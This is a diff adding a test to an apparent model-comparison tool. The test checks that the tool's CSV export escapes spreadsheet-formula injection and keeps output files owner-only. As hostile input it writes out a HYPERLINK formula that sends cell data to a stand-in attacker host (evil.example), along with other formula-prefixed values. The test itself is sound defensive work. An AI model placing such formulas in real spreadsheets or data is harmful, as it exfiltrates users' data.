@@ -3,6 +3,7 @@ reports that open offline and escape model text."""
 
 from __future__ import annotations
 
+import csv
 import json
 import os
 import re
@@ -218,3 +219,40 @@ def test_report_rebuilds_and_imported_verdicts_become_a_run(reference_run: tuple
     assert summary["agreement"]["first_order"]["correct"] == len(rows) - 1
     assert main(["report", str(out), "--list"]) == 0
     assert len(capsys.readouterr().out.strip().splitlines()) == 2
+
+
+def test_hostile_names_give_a_neutralised_csv_and_owner_only_files_under_umask_0(tmp_path: Path) -> None:
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "=1+1", "+1+1", "-1-1", "@cat"]
+    rows = [{"id": hostile[0], "instruction": "Say hi", "response_a": "hi", "response_b": "=1+1",
+             "model_a": hostile[1], "model_b": hostile[2], "category": hostile[3]},
+            {"id": hostile[4], "instruction": "Say bye", "response_a": "bye", "response_b": "-bye",
+             "model_a": hostile[1], "model_b": hostile[2], "category": "@sum(A1)"}]
+    data = tmp_path / "pairs.jsonl"
+    data.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
+    out = tmp_path / "run"
+    out.mkdir()
+    os.chmod(out, 0o755)  # an existing --out folder others can read
+    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True,
+                          check=True)
+    stale = out / f".report.html.{int(dead.stdout)}.tmp"  # left by a writer killed with kill -9
+    stale.write_text("half a report", encoding="utf-8")
+    old_umask = os.umask(0)
+    try:
+        done = subprocess.run(_batch_args(data, out, "--one-order"), capture_output=True, text=True, timeout=300)
+    finally:
+        os.umask(old_umask)
+    assert done.returncode == 0, done.stderr
+    assert stat.S_IMODE(out.stat().st_mode) == 0o700
+    assert not stale.exists()
+    modes = {path.name: stat.S_IMODE(path.stat().st_mode) for path in out.iterdir()}
+    assert {"report.html", "verdicts.csv", "summary.json", "battles.jsonl", "run.sqlite", ".lock"} <= set(modes)
+    assert {name: mode for name, mode in modes.items() if mode != 0o600} == {}
+    with (out / "verdicts.csv").open(encoding="utf-8", newline="") as handle:
+        cells = list(csv.DictReader(handle))
+    assert [row["item_id"] for row in cells] == ["'" + hostile[0], "'@cat"]
+    for row in cells:
+        assert (row["model_a"], row["model_b"]) == ("'=1+1", "'+1+1")
+        for name, value in row.items():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
+    assert [row["category"] for row in cells] == ["'-1-1", "'@sum(A1)"]
+    assert all(0.0 <= float(row["p_A"]) <= 1.0 for row in cells)  # numbers stay numbers
